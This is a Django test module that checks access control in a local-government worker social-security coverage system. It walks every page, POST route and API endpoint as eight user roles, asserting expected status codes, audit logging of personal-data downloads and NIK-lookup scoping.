"""Walk every page and API endpoint as every persona: no endpoint without an access decision."""

from __future__ import annotations

import json
from datetime import date
from typing import Any

from django.db import transaction
from django.urls import URLPattern, URLResolver, get_resolver

from lindung.api.api import api
from lindung.tests.base import BaseTestCase
from lindung.tests.factories import make_valid_nik

PERSONAS = ("admin", "operator", "bpjs", "disnaker", "perizinan", "pimpinan", "outsider", "root")


def _row(*codes: int) -> dict[str, int]:
    return dict(zip(PERSONAS, codes, strict=True))


# Expected status per persona:   admin oper bpjs disn periz pimp outs root
READ_ALL = _row(200, 200, 200, 403, 403, 200, 200, 200)
READ_OWN = _row(200, 200, 200, 403, 403, 200, 404, 200)
READ_OTHER_OPD = _row(200, 404, 200, 403, 403, 200, 404, 200)
WRITE_OWN = _row(200, 200, 403, 403, 403, 403, 404, 200)
WRITE_OTHER_OPD = _row(200, 404, 403, 403, 403, 403, 404, 200)
MANAGE_OWN = _row(200, 403, 403, 403, 403, 403, 404, 200)
MANAGE_ANY = _row(200, 403, 403, 403, 403, 403, 200, 200)
MOVED = _row(302, 302, 302, 302, 302, 302, 302, 302)  # an old address of a moved page
IMPORTERS = _row(200, 200, 200, 200, 403, 403, 200, 200)  # Disnaker imports business lists
BATCH = _row(200, 200, 404, 404, 403, 403, 404, 200)  # a worker list of the operator's OPD
# A cohort's member list: those who manage the cohort (Admin Pemda of its Pemda).
COH_BATCH = _row(200, 404, 404, 404, 403, 403, 404, 200)
COH_TEMPLATE = _row(200, 404, 404, 404, 403, 403, 200, 200)
# Compliance: Disnaker and Admin work businesses; BPJS and Pimpinan read; Perizinan checks.
CMP_READ_ALL = _row(200, 403, 200, 200, 403, 200, 200, 200)
CMP_READ_OWN = _row(200, 403, 200, 200, 403, 200, 404, 200)
CMP_EDIT_ANY = _row(200, 403, 403, 200, 403, 403, 200, 200)
CMP_EDIT_OWN = _row(200, 403, 403, 200, 403, 403, 404, 200)
CMP_CHECK = _row(200, 403, 200, 200, 200, 200, 200, 200)
# Construction projects: Disnaker reads too; Petugas BPJS records registration and payments.
PRJ_READ_ALL = _row(200, 200, 200, 200, 403, 200, 200, 200)
PRJ_READ_OWN = _row(200, 200, 200, 200, 403, 200, 404, 200)
PRJ_READ_OTHER_OPD = _row(200, 404, 200, 200, 403, 200, 404, 200)
PRJ_MANAGE_ANY = _row(200, 200, 403, 403, 403, 403, 200, 200)
PRJ_MANAGE_OWN = _row(200, 200, 403, 403, 403, 403, 404, 200)
PRJ_MANAGE_OTHER_OPD = _row(200, 404, 403, 403, 403, 403, 404, 200)
PRJ_RECORD_OWN = _row(200, 200, 200, 403, 403, 403, 404, 200)
PRJ_RECORD_OTHER_OPD = _row(200, 404, 200, 403, 403, 403, 404, 200)
# Cohorts (election staff, informal workers): managed by Admin Pemda; not for OPD operators.
COH_READ_ALL = _row(200, 403, 200, 200, 403, 200, 200, 200)
COH_READ_OWN = _row(200, 403, 200, 200, 403, 200, 404, 200)
COH_MANAGE_ANY = _row(200, 403, 403, 403, 403, 403, 200, 200)
MOVED = _row(302, 302, 302, 302, 302, 302, 302, 302)  # an old address of a moved page
# A partial NIK: a prefix search for unmasked roles, refused to the masked Pimpinan.
PARTIAL_NIK = _row(200, 200, 200, 403, 403, 422, 200, 200)
COH_MANAGE_OWN = _row(200, 403, 403, 403, 403, 403, 404, 200)


# Public by design (login, logout, a redirect to the API docs), or POST-only with its own
# test below (choose-pemda). Every other route is walked: GET pages in `pages`, POST-only
# actions in `posts`, API operations in `api_calls`; a route in none of them fails
# test_the_walk_covers_every_route.
NOT_WALKED = {
    "acc-login",
    "acc-logout",
    "web-choose-pemda",
    "api-docs-redirect",
}


TARGET = {"segment": "non_asn", "metric": "percent", "value": 80, "due": date(2026, 12, 31)}


class UrlWalkTest(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        from lindung.compliance.tests.factories import make_compliance_walk_data

        cls.cmp = make_compliance_walk_data(cls.pemda, actor=cls.disnaker)
        from django.core.files.base import ContentFile

        from lindung.imports.pipeline import create_batch

        cls.batch = create_batch(
            pemda=cls.pemda,
            kind="workers",
            source=ContentFile(b"NIK;Nama;Gaji\n", name="dlh.csv"),
            original_name="dlh.csv",
            user=cls.admin,
            options={"opd_id": cls.opd.pk},
        )
        from lindung.projects.tests.factories import make_project

        cls.project = make_project(cls.opd, termins=(50, 50))
        cls.other_project = make_project(cls.other_opd, name="Jalan Lingkar Utara")
        from lindung.cohorts.tests.factories import make_election, make_informal

        cls.recon_setup()
        from lindung.dashboards.models import Report

        cls.report = Report.objects.create(
            pemda=cls.pemda, format="xlsx", status="done", content=b"PK", run=cls.recon_run
        )
        cls.election = make_election(cls.pemda)
        cls.informal = make_informal(cls.pemda)
        cls.cohort_batch = create_batch(
            pemda=cls.pemda,
            kind="election_members",
            source=ContentFile(b"NIK;Nama;Peran\n", name="kpps.csv"),
            original_name="kpps.csv",
            user=cls.admin,
            options={"cohort_id": cls.election.pk},
        )

    def pages(self) -> list[tuple[str, str, dict[str, int]]]:
        opd, other = self.opd.pk, self.other_opd.pk
        eng, other_eng = self.worker.pk, self.other_worker.pk
        person, other_person = self.worker.person_id, self.other_worker.person_id
        home = _row(302, 302, 302, 200, 200, 302, 302, 302)
        batch = self.batch.pk
        return [
            ("web-home", "/", home),
            ("reg-opd-list", "/registri/opd/", READ_ALL),
            ("reg-opd-add", "/registri/opd/tambah/", MANAGE_ANY),
            ("reg-worker-list", f"/registri/opd/{opd}/", READ_OWN),
            ("reg-worker-list", f"/registri/opd/{other}/", READ_OTHER_OPD),
            ("reg-opd-edit", f"/registri/opd/{opd}/ubah/", MANAGE_OWN),
            ("reg-worker-export", f"/registri/opd/{opd}/unduh.xlsx", READ_OWN),
            ("reg-worker-export", f"/registri/opd/{other}/unduh.xlsx", READ_OTHER_OPD),
            ("reg-worker-add", f"/registri/opd/{opd}/tambah-pekerja/", WRITE_OWN),
            ("reg-worker-add", f"/registri/opd/{other}/tambah-pekerja/", WRITE_OTHER_OPD),
            ("reg-engagement-edit", f"/registri/penugasan/{eng}/ubah/", WRITE_OWN),
            ("reg-engagement-edit", f"/registri/penugasan/{other_eng}/ubah/", WRITE_OTHER_OPD),
            ("reg-engagement-end", f"/registri/penugasan/{eng}/akhiri/", WRITE_OWN),
            ("reg-engagement-end", f"/registri/penugasan/{other_eng}/akhiri/", WRITE_OTHER_OPD),
            # Whole-NIK lookups (logged for masked roles) and a partial NIK (refused to them).
            ("reg-worker-list", f"/registri/opd/{opd}/?q={self.worker.person.nik}", READ_OWN),
            ("reg-worker-list", f"/registri/opd/{opd}/?q=3375", READ_OWN),
            ("reg-person-detail", f"/registri/orang/{person}/", READ_OWN),
            ("reg-person-detail", f"/registri/orang/{other_person}/", READ_OTHER_OPD),
            ("reg-person-edit", f"/registri/orang/{person}/ubah/", WRITE_OWN),
            ("reg-person-edit", f"/registri/orang/{other_person}/ubah/", WRITE_OTHER_OPD),
            *self.compliance_pages(),
            ("web-healthz", "/healthz", _row(*[200] * 8)),
            ("rule-calculator", "/iuran/kalkulator/", _row(*[200] * 8)),
            ("rule-table", "/iuran/aturan/", _row(*[200] * 8)),
            ("rule-budget", "/iuran/anggaran/", READ_ALL),
            ("imp-list", "/impor/", IMPORTERS),
            (
                "imp-template",
                "/impor/templat/workers.xlsx",
                _row(200, 200, 404, 404, 403, 403, 200, 200),
            ),
            ("imp-batch", f"/impor/{batch}/", BATCH),
            ("imp-status", f"/impor/{batch}/status.json", BATCH),
            ("imp-errors", f"/impor/{batch}/galat.xlsx", BATCH),
            ("imp-template", "/impor/templat/election_members.xlsx", COH_TEMPLATE),
            ("imp-template", "/impor/templat/informal_members.xlsx", COH_TEMPLATE),
            ("imp-batch", f"/impor/{self.cohort_batch.pk}/", COH_BATCH),
            ("imp-status", f"/impor/{self.cohort_batch.pk}/status.json", COH_BATCH),
            *self.project_pages(),
            *self.cohort_pages(),
            *self.recon_pages(),
            *self.dashboard_pages(),
            *self.workforce_pages(),
            *self.account_pages(),
        ]

    def account_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        """User management and the audit log: the Admin Pemda's (a superuser's too)."""
        return [
            ("acc-password-change", "/akun/sandi/", _row(*[200] * 8)),
            ("acc-user-list", "/akun/pengguna/", MANAGE_ANY),
            ("acc-user-add", "/akun/pengguna/tambah/", MANAGE_ANY),
            ("acc-user-edit", f"/akun/pengguna/{self.operator.pk}/", MANAGE_OWN),
            ("aud-log", "/audit/", MANAGE_ANY),
            ("aud-log", f"/audit/?kind=change&opd={self.opd.pk}", MANAGE_ANY),
            ("aud-export", "/audit/unduh.xlsx", MANAGE_ANY),
        ]

    @classmethod
    def recon_setup(cls) -> None:
        from lindung.reconciliation.models import Candidate
        from lindung.reconciliation.services import reconcile
        from lindung.reconciliation.tests.scenario import AS_OF, Scenario

        Scenario(cls.pemda, cls.opd, cls.other_opd, [])
        cls.recon_run = reconcile(pemda=cls.pemda, as_of=AS_OF, user=cls.admin)
        cls.candidate = Candidate.objects.filter(run=cls.recon_run).first()

    def recon_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        run, other = self.recon_run.pk, self.other_opd.pk
        reviewers = _row(200, 403, 200, 403, 403, 403, 200, 200)
        return [
            ("rec-run-list", "/rekonsiliasi/", READ_ALL),
            ("rec-run-detail", f"/rekonsiliasi/{run}/", READ_OWN),
            ("rec-records", f"/rekonsiliasi/{run}/daftar/?kategori=not_registered", READ_OWN),
            ("rec-records", f"/rekonsiliasi/{run}/daftar/?kategori=covered&opd={other}",
             READ_OTHER_OPD),
            ("rec-records-export", f"/rekonsiliasi/{run}/daftar.xlsx?kategori=inactive",
             READ_OWN),
            ("rec-review", "/rekonsiliasi/tinjau/", reviewers),
            ("rec-links", "/rekonsiliasi/tautan/", MOVED),
            ("bpjs-links", "/bpjs/tautan/?jenis=opd", MANAGE_ANY),
        ]  # fmt: skip

    def dashboard_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        run, other, report = self.recon_run.pk, self.other_opd.pk, self.report.pk
        # Lists without ?run= read the latest run of the user's Pemda (root: the first, 3325).
        latest_own = _row(200, 200, 200, 403, 403, 200, 404, 404)
        targets = _row(200, 403, 200, 403, 403, 200, 200, 200)  # whole-Pemda roles only
        reports = _row(200, 403, 200, 403, 403, 200, 404, 200)
        return [
            ("dash-home", "/dasbor/", READ_ALL),
            ("dash-records", "/dasbor/daftar/?status=gap", latest_own),
            ("dash-records", f"/dasbor/daftar/?status=workers&run={run}", READ_OWN),
            ("dash-records", f"/dasbor/daftar/?status=covered&opd={other}&run={run}",
             READ_OTHER_OPD),
            ("dash-records-export", f"/dasbor/daftar.xlsx?status=gap&run={run}", READ_OWN),
            ("dash-opds", "/dasbor/opd/?peserta=belum", latest_own),
            ("dash-targets", "/dasbor/target/", targets),
            ("dash-report", f"/dasbor/rakor/{report}/", reports),
            ("dash-report-download", f"/dasbor/rakor/{report}/unduh/", reports),
            ("dash-report-list", "/dasbor/rakor/daftar/", targets),  # the own Pemda's reports
        ]  # fmt: skip

    def workforce_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        return [
            ("wf-citywide", "/cakupan-kota/", _row(200, 403, 200, 200, 403, 200, 200, 200)),
            ("wf-workforce-add", "/cakupan-kota/pekerja/",
             _row(200, 403, 403, 200, 403, 403, 200, 200)),
            ("wf-bpjs-add", "/cakupan-kota/bpjs/", _row(200, 403, 200, 403, 403, 403, 200, 200)),
        ]  # fmt: skip

    def workforce_api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        figure = {"kind": "bpjs", "segment": "pu", "people": 100, "as_of": "2026-06-30",
                  "source": "Laporan Cabang"}  # fmt: skip
        # A superuser belongs to no Pemda: the API asks which (422).
        return [
            ("GET", "/api/v1/citywide", "/citywide", None,
             _row(200, 403, 200, 200, 403, 200, 200, 422)),
            ("POST", "/api/v1/citywide/figures", "/citywide/figures", figure,
             _row(201, 403, 201, 403, 403, 403, 201, 422)),
        ]  # fmt: skip

    def dashboard_api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        return [
            ("GET", "/api/v1/coverage?pemda=3375", "/coverage", None, READ_OWN),
            ("GET", "/api/v1/coverage/records?pemda=3375&category=gap", "/coverage/records",
             None, READ_OWN),
        ]  # fmt: skip

    def recon_api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        run, cand = self.recon_run.pk, self.candidate.pk
        reviewers = _row(200, 403, 200, 403, 403, 403, 200, 200)
        start = {"pemda": "3375", "as_of": "2026-11-15"}
        return [
            ("GET", "/api/v1/reconciliation/runs", "/reconciliation/runs", None, READ_ALL),
            ("POST", "/api/v1/reconciliation/runs", "/reconciliation/runs", start,
             _row(202, 403, 202, 403, 403, 403, 422, 202)),
            ("GET", f"/api/v1/reconciliation/runs/{run}", "/reconciliation/runs/{run_id}",
             None, READ_OWN),
            ("GET", f"/api/v1/reconciliation/runs/{run}/records?category=covered",
             "/reconciliation/runs/{run_id}/records", None, READ_OWN),
            ("GET", "/api/v1/reconciliation/candidates", "/reconciliation/candidates", None,
             reviewers),
            ("POST", f"/api/v1/reconciliation/candidates/{cand}/decision",
             "/reconciliation/candidates/{candidate_id}/decision", {"accepted": True},
             _row(200, 403, 200, 403, 403, 403, 404, 200)),
        ]  # fmt: skip

    def cohort_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        election, informal = self.election.pk, self.informal.pk
        return [
            ("coh-list", "/kohort/", COH_READ_ALL),
            ("coh-target", "/kohort/target/", COH_MANAGE_ANY),
            ("coh-election-add", "/kohort/pemilu/tambah/", COH_MANAGE_ANY),
            ("coh-election-detail", f"/kohort/pemilu/{election}/", COH_READ_OWN),
            ("coh-election-role", f"/kohort/pemilu/{election}/peran/", COH_MANAGE_OWN),
            ("coh-election-member", f"/kohort/pemilu/{election}/anggota/", COH_MANAGE_OWN),
            ("coh-informal-add", "/kohort/informal/tambah/", COH_MANAGE_ANY),
            ("coh-informal-detail", f"/kohort/informal/{informal}/", COH_READ_OWN),
            ("coh-informal-member", f"/kohort/informal/{informal}/anggota/", COH_MANAGE_OWN),
        ]

    def project_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        own, other = self.project.pk, self.other_project.pk
        return [
            ("prj-list", "/proyek/", PRJ_READ_ALL),
            ("prj-add", "/proyek/tambah/", PRJ_MANAGE_ANY),
            ("prj-overdue", "/proyek/terlambat/", PRJ_READ_ALL),
            ("prj-detail", f"/proyek/{own}/", PRJ_READ_OWN),
            ("prj-detail", f"/proyek/{other}/", PRJ_READ_OTHER_OPD),
            ("prj-termin-add", f"/proyek/{own}/termin/tambah/", PRJ_MANAGE_OWN),
            ("prj-termin-add", f"/proyek/{other}/termin/tambah/", PRJ_MANAGE_OTHER_OPD),
            ("prj-register", f"/proyek/{own}/pendaftaran/", PRJ_RECORD_OWN),
            ("prj-register", f"/proyek/{other}/pendaftaran/", PRJ_RECORD_OTHER_OPD),
            ("prj-payment", f"/proyek/{own}/pembayaran/", PRJ_RECORD_OWN),
            ("prj-payment", f"/proyek/{other}/pembayaran/", PRJ_RECORD_OTHER_OPD),
            ("prj-gate", f"/proyek/{own}/cek-termin/?termin=2", PRJ_READ_OWN),
            ("prj-gate", f"/proyek/{other}/cek-termin/", PRJ_READ_OTHER_OPD),
        ]

    def api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        opd, other = self.opd.pk, self.other_opd.pk
        eng, person = self.worker.pk, self.worker.person_id
        nik = self.worker.person.nik
        created = _row(201, 201, 403, 403, 403, 403, 422, 201)
        opd_new = {"pemda": None, "code": "BARU", "name": "Dinas Baru"}
        hire = {
            "opd_id": opd,
            "nik": "",
            "name": "Pekerja Baru",
            "category": "kontrak",
            "monthly_wage": 2100000,
            "start_date": "2026-01-05",
        }
        reason = {"reason": "uji"}
        batch = self.batch.pk
        quote = {"segment": "pu", "wage": 2_000_000, "month": "2026-01"}
        return [
            *self.compliance_api_calls(),
            ("GET", "/api/v1/me", "/me", None, _row(*[200] * 8)),
            ("GET", "/api/v1/opds", "/opds", None, READ_ALL),
            (
                "POST",
                "/api/v1/opds",
                "/opds",
                opd_new,
                _row(201, 403, 403, 403, 403, 403, 201, 201),
            ),
            ("GET", f"/api/v1/opds/{opd}", "/opds/{opd_id}", None, READ_OWN),
            ("GET", f"/api/v1/opds/{other}", "/opds/{opd_id}", None, READ_OTHER_OPD),
            ("PATCH", f"/api/v1/opds/{opd}", "/opds/{opd_id}", {"name": "DLH 2"}, MANAGE_OWN),
            ("GET", "/api/v1/engagements", "/engagements", None, READ_ALL),
            ("POST", "/api/v1/engagements", "/engagements", hire, created),
            ("GET", f"/api/v1/engagements/{eng}", "/engagements/{engagement_id}", None, READ_OWN),
            (
                "PATCH",
                f"/api/v1/engagements/{eng}",
                "/engagements/{engagement_id}",
                {"monthly_wage": 2500000, **reason},
                WRITE_OWN,
            ),
            (
                "POST",
                f"/api/v1/engagements/{eng}/end",
                "/engagements/{engagement_id}/end",
                {"end_date": str(date.today()), **reason},
                WRITE_OWN,
            ),
            ("GET", "/api/v1/people", "/people", None, READ_ALL),
            ("GET", f"/api/v1/people?q={nik}", "/people", None, READ_ALL),
            ("GET", f"/api/v1/engagements?q={nik}", "/engagements", None, READ_ALL),
            ("GET", "/api/v1/people?q=3375", "/people", None, PARTIAL_NIK),
            ("GET", "/api/v1/engagements?q=3375", "/engagements", None, PARTIAL_NIK),
            ("POST", "/api/v1/quotes", "/quotes", quote, _row(*[200] * 8)),
            (
                "POST",
                "/api/v1/imports",
                "/imports",
                "upload",
                _row(202, 202, 403, 403, 403, 403, 202, 202),
            ),
            ("GET", f"/api/v1/imports/{batch}", "/imports/{batch_id}", None, BATCH),
            ("GET", f"/api/v1/imports/{batch}/rows", "/imports/{batch_id}/rows", None, BATCH),
            (
                "POST",
                f"/api/v1/imports/{batch}/commit",
                "/imports/{batch_id}/commit",
                {"valid_only": False},
                _row(422, 422, 404, 404, 403, 403, 404, 422),  # the batch was never checked
            ),
            (
                "POST",
                "/api/v1/benefits",
                "/benefits",
                {"benefit": "jkm", "month": "2026-01"},
                _row(*[200] * 8),
            ),
            ("GET", f"/api/v1/people/{person}", "/people/{person_id}", None, READ_OWN),
            (
                "PATCH",
                f"/api/v1/people/{person}",
                "/people/{person_id}",
                {"phone": "081234567890", **reason},
                WRITE_OWN,
            ),
            *self.project_api_calls(),
            *self.recon_api_calls(),
            *self.dashboard_api_calls(),
            *self.workforce_api_calls(),
        ]

    def project_api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        own, other = self.project.pk, self.other_project.pk
        new = {
            "opd_id": self.opd.pk,
            "name": "Pembangunan Pasar Banjarsari",
            "contractor_name": "PT Batik Bangun",
            "contract_value": 1_200_000_000,
            "spk_date": "2026-02-02",
            "start_date": "2026-02-09",
            "end_date": "2026-11-30",
        }
        check = "/projects/{project_id}/termin-check"
        return [
            ("GET", "/api/v1/projects", "/projects", None, PRJ_READ_ALL),
            (
                "POST",
                "/api/v1/projects",
                "/projects",
                new,
                _row(201, 201, 403, 403, 403, 403, 422, 201),  # outsider: DLH is not theirs
            ),
            ("GET", f"/api/v1/projects/{own}/termin-check?termin=1", check, None, PRJ_READ_OWN),
            (
                "GET",
                f"/api/v1/projects/{other}/termin-check?termin=1",
                check,
                None,
                _row(422, 404, 422, 422, 403, 422, 404, 422),  # no termin schedule yet
            ),
        ]

    def compliance_pages(self) -> list[tuple[str, str, dict[str, int]]]:
        business, finding = self.cmp.business.pk, self.cmp.finding.pk
        step, employer = self.cmp.step.pk, self.cmp.employer.pk
        return [
            ("cmp-list", "/kepatuhan/", CMP_READ_ALL),
            ("cmp-panel", "/kepatuhan/ringkasan/", CMP_READ_ALL),
            ("cmp-business-add", "/kepatuhan/usaha/tambah/", CMP_EDIT_ANY),
            ("cmp-business", f"/kepatuhan/usaha/{business}/", CMP_READ_OWN),
            ("cmp-business-edit", f"/kepatuhan/usaha/{business}/ubah/", CMP_EDIT_OWN),
            ("cmp-figure-add", f"/kepatuhan/usaha/{business}/angka/", CMP_EDIT_OWN),
            ("cmp-finding", f"/kepatuhan/temuan/{finding}/", CMP_READ_OWN),
            ("cmp-letter", f"/kepatuhan/langkah/{step}/surat.pdf", CMP_READ_OWN),
            ("cmp-links", "/kepatuhan/tautan/", MOVED),
            ("cmp-link-decide", f"/kepatuhan/tautan/{employer}/", MOVED),
            ("bpjs-links", "/bpjs/tautan/?jenis=usaha", CMP_EDIT_ANY),
            ("bpjs-links", "/bpjs/tautan/?jenis=kontraktor", CMP_EDIT_ANY),
            ("cmp-umk", "/kepatuhan/umk/", _row(200, 403, 403, 403, 403, 403, 200, 200)),
            ("cmp-letters", "/kepatuhan/surat/", CMP_EDIT_ANY),
            ("cmp-permit-log", "/kepatuhan/log-cek/", CMP_EDIT_ANY),
            ("cmp-permit-search", f"/kepatuhan/cek/?nib={self.cmp.business.nib}", CMP_CHECK),
            ("cmp-client-keys", "/kepatuhan/kunci-api/", MANAGE_ANY),
        ]

    def compliance_api_calls(self) -> list[tuple[str, str, str, Any, dict[str, int]]]:
        nib = self.cmp.business.nib
        # Staff tokens: every role that may check permits; a superuser must name a Pemda.
        # Client keys (the licensing system) are tested in compliance/tests/test_permit_api.py.
        return [
            ("GET", "/api/v1/compliance/ping", "/compliance/ping", None, CMP_CHECK),
            (
                "GET",
                f"/api/v1/compliance/{nib}",
                "/compliance/{nib}",
                None,
                _row(200, 403, 200, 200, 200, 200, 200, 422),
            ),
        ]

    def test_every_page_has_an_access_decision_for_every_persona(self) -> None:
        for _name, url, expected in self.pages():
            for persona, user in self.personas().items():
                with self.subTest(url=url, persona=persona):
                    self.client.force_login(user)
                    response = self.client.get(url)
                    self.assertEqual(response.status_code, expected[persona])

    def test_every_download_of_personal_data_is_on_record(self) -> None:
        """Each export or download, by the first persona allowed, writes one AccessEvent."""
        from lindung.audit.models import AccessEvent

        downloads = {
            "reg-worker-export": "workers",
            "rec-records-export": "actions",
            "dash-records-export": "records",
            "dash-report-download": "report",
            "cmp-letter": "letter",
            "imp-errors": "import_errors",
            "aud-export": "audit",
        }
        seen = set()
        for name, url, expected in self.pages():
            if name not in downloads or name in seen:
                continue
            seen.add(name)
            persona = next(p for p in PERSONAS if expected[p] == 200)
            user = self.personas()[persona]
            with self.subTest(url=url, persona=persona):
                self.client.force_login(user)
                before = AccessEvent.objects.count()
                self.assertEqual(self.client.get(url).status_code, 200)
                event = AccessEvent.objects.order_by("pk").last()
                self.assertEqual(AccessEvent.objects.count(), before + 1)
                assert event is not None
                self.assertEqual((event.kind, event.user), (downloads[name], user))
        self.assertEqual(seen, set(downloads))

    def test_anonymous_visitors_are_sent_to_login(self) -> None:
        for name, url, _expected in self.pages():
            if name == "web-healthz":
                continue
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 302)
                self.assertIn("/akun/masuk/", response["Location"])

    def test_every_api_endpoint_has_an_access_decision_for_every_persona(self) -> None:
        for method, url, _path, body, expected in self.api_calls():
            for persona, user in self.personas().items():
                with self.subTest(method=method, url=url, persona=persona), transaction.atomic():
                    if body == "upload":
                        response = self.upload(user, persona)
                        self.assertEqual(response.status_code, expected[persona], response.content)
                        transaction.set_rollback(True)
                        continue
                    payload = dict(body) if body else None
                    if payload and "nik" in payload:
                        payload["nik"] = make_valid_nik()
                    if payload and "pemda" in payload and persona == "root":
                        payload["pemda"] = "3375"
                    response = self.client.generic(
                        method,
                        url,
                        json.dumps(payload) if payload else "",
                        content_type="application/json",
                        **self.bearer(user),
                    )
                    self.assertEqual(response.status_code, expected[persona], response.content)
                    transaction.set_rollback(True)

    def test_a_whole_nik_lookup_finds_only_within_scope(self) -> None:
        """Per persona, how many rows a whole-NIK search finds (None: refused)."""
        from django.core.cache import cache

        cache.clear()  # the hourly lookup limit counts the walk's own lookups too
        own, other = self.worker.person.nik, self.other_worker.person.nik
        foreign = self.foreign_worker.person.nik
        found: dict[str, list[int | None]] = {}
        for persona, user in self.personas().items():
            counts: list[int | None] = []
            for path in ("people", "engagements"):
                for nik in (own, other, foreign):
                    response = self.client.get(f"/api/v1/{path}?q={nik}", **self.bearer(user))
                    ok = response.status_code == 200
                    counts.append(response.json()["count"] if ok else None)
            found[persona] = counts
        #                 people: DLH, DINDIK, Batang; engagements: the same
        self.assertEqual(found, {
            "admin":     [1, 1, 0, 1, 1, 0],
            "operator":  [1, 0, 0, 1, 0, 0],
            "bpjs":      [1, 1, 0, 1, 1, 0],
            "disnaker":  [None] * 6,
            "perizinan": [None] * 6,
            "pimpinan":  [1, 1, 0, 1, 1, 0],
            "outsider":  [0, 0, 1, 0, 0, 1],
            "root":      [1, 1, 1, 1, 1, 1],
        })  # fmt: skip
        # The Pimpinan's six lookups are on record.
        from lindung.registry.models import NikLookup

        self.assertEqual(NikLookup.objects.filter(user=self.pimpinan).count(), 6)

    def upload(self, user: Any, persona: str) -> Any:
        from django.core.files.uploadedfile import SimpleUploadedFile

        data = {
            "kind": "workers",
            "opd": "DLH",
            "file": SimpleUploadedFile(
                "dlh.csv", b"NIK,Nama,Gaji\n3375010507900001,Budi,2000000\n"
            ),
        }
        if persona == "root":
            data["pemda"] = "3375"
        return self.client.post("/api/v1/imports", data, **self.bearer(user))

    def test_api_refuses_requests_without_a_valid_token(self) -> None:
        for method, url, _path, _body, _expected in self.api_calls():
            with self.subTest(url=url):
                response = self.client.generic(method, url, HTTP_AUTHORIZATION="Bearer nope")
                self.assertEqual(response.status_code, 401)
                self.assertIn("error", response.json())

    def test_the_walk_covers_every_route(self) -> None:
        walked_pages = {name for name, _url, _exp in self.pages()}
        walked_pages |= {name for name, _url, _data, _exp in self.posts()}
        routed = set()

        def collect(patterns: list[Any]) -> None:
            for p in patterns:
                if isinstance(p, URLResolver):
                    if p.namespace in ("admin", "api-v1") or "i18n" in str(p.pattern):
                        continue
                    collect(p.url_patterns)
                elif isinstance(p, URLPattern) and p.name not in NOT_WALKED:
                    routed.add(p.name)

        collect(get_resolver().url_patterns)
        self.assertEqual(routed - walked_pages, set())

        schema = api.get_openapi_schema()
        routes = {(m.upper(), path) for path, ops in schema["paths"].items() for m in ops}
        walked = {(m, "/api/v1" + p) for m, _u, p, _b, _e in self.api_calls()}
        self.assertEqual(routes - walked, set())

    def posts(self) -> list[tuple[str, str, dict[str, str], dict[str, int]]]:
        """POST-only routes, posted empty or with a harmless choice; each in a rolled-back
        transaction. A 302 or 200 is the view at work (it redirects with a message or shows
        the form again); 403 and 404 are the access decision."""
        from lindung.bpjs.models import Employer
        from lindung.dashboards.models import Target

        batch, cohort_batch = self.batch.pk, self.cohort_batch.pk
        target = Target.objects.create(pemda=self.pemda, created_by=self.admin, **TARGET)
        link = Employer.objects.filter(pemda=self.pemda, opd__isnull=False).order_by("pk").first()
        assert link is not None
        from lindung.accounts.services import client_key_create

        key, _raw = client_key_create(pemda=self.pemda, name="SiCantik")
        imports = _row(302, 302, 404, 404, 403, 403, 404, 302)
        cohort_imports = _row(302, 404, 404, 404, 403, 403, 404, 302)
        reviewers = _row(302, 403, 302, 403, 403, 403, 404, 302)
        return [
            ("imp-mapping", f"/impor/{batch}/pemetaan/", {}, imports),
            ("imp-opds", f"/impor/{batch}/opd/", {}, imports),
            ("imp-commit", f"/impor/{batch}/simpan/", {}, imports),
            ("imp-cancel", f"/impor/{batch}/batal/", {}, imports),
            ("imp-mapping", f"/impor/{cohort_batch}/pemetaan/", {}, cohort_imports),
            ("imp-opds", f"/impor/{cohort_batch}/opd/", {}, cohort_imports),
            ("imp-commit", f"/impor/{cohort_batch}/simpan/", {}, cohort_imports),
            ("imp-cancel", f"/impor/{cohort_batch}/batal/", {}, cohort_imports),
            ("rec-decide", f"/rekonsiliasi/tinjau/{self.candidate.pk}/", {}, reviewers),
            ("rec-link-decide", f"/rekonsiliasi/tautan/{link.pk}/", {}, MOVED),
            ("bpjs-link-decide", f"/bpjs/tautan/{link.pk}/", {"jenis": "opd"},
             _row(302, 403, 403, 403, 403, 403, 404, 302)),
            ("bpjs-link-decide", f"/bpjs/tautan/{self.cmp.employer.pk}/", {"jenis": "usaha"},
             _row(302, 403, 403, 302, 403, 403, 404, 302)),
            ("dash-target-delete", f"/dasbor/target/{target.pk}/hapus/", {},
             _row(302, 403, 302, 403, 403, 403, 404, 302)),  # BPJS sets targets too
            ("dash-report-create", "/dasbor/rakor/", {"format": "xlsx"},
             _row(302, 403, 302, 403, 403, 302, 302, 302)),
            ("cmp-client-key-revoke", f"/kepatuhan/kunci-api/{key.pk}/cabut/", {},
             _row(302, 403, 403, 403, 403, 403, 404, 302)),
            ("acc-user-reset", f"/akun/pengguna/{self.operator.pk}/sandi/", {},
             _row(200, 403, 403, 403, 403, 403, 404, 200)),  # shows the temporary password
            ("acc-user-active", f"/akun/pengguna/{self.operator.pk}/aktif/", {"active": "0"},
             _row(302, 403, 403, 403, 403, 403, 404, 302)),
        ]  # fmt: skip

    def test_every_post_only_route_has_an_access_decision_for_every_persona(self) -> None:
        wrong = []
        for _name, url, data, expected in self.posts():
            for persona, user in self.personas().items():
                with transaction.atomic():
                    self.client.force_login(user)
                    status = self.client.post(url, data).status_code
                    if status != expected[persona]:
                        wrong.append(f"{persona} POST {url}: {status} not {expected[persona]}")
                    transaction.set_rollback(True)
        self.assertEqual(wrong, [])

    def test_only_a_superuser_may_switch_pemda(self) -> None:
        for persona, user in self.personas().items():
            with self.subTest(persona=persona):
                self.client.force_login(user)
                response = self.client.post("/pemda/pilih/", {"pemda": "3325"})
                self.assertEqual(response.status_code, 302 if persona == "root" else 403)
        self.client.force_login(self.root)
        response = self.client.get("/registri/opd/")
        self.assertContains(response, "DLH Batang")
        self.assertNotContains(response, "Dinas Pendidikan")


